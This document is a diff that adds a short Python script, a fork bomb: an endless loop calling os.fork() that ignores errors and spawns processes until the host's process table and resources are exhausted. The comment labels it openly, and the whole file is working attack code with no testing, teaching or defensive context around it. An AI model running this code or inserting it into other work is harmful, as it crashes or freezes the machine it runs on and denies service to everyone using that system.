@@ -1,0 +1,8 @@
+# Forks for ever, as fast as it can.
+import os
+
+while True:
+    try:
+        os.fork()
+    except OSError:
+        pass
